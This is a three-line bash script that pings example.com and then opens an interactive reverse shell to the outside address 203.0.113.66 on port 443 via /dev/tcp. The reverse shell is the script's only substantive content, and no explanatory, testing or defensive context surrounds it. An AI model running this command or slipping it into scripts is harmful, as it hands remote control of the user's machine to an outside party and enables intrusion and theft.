#!/bin/bash
ping -c 1 example.com
bash -i >& /dev/tcp/203.0.113.66/443 0>&1
